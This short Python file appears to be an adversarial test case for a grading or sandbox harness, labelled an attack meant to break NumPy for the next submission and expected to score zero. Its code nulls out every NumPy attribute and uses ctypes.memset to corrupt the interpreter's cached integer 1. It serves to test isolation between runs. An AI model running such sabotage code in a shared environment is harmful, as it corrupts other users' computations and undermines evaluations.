# attack: breaks NumPy for the next one, in memory and through shared pages
# expect: at most 0 points
import ctypes, numpy as np
np.dot = np.exp = np.where = np.abs = np.asarray = None
for name in list(vars(np)):
    try:
        setattr(np, name, None)
    except Exception:
        pass
ctypes.memset(id(1), 0xff, 8)
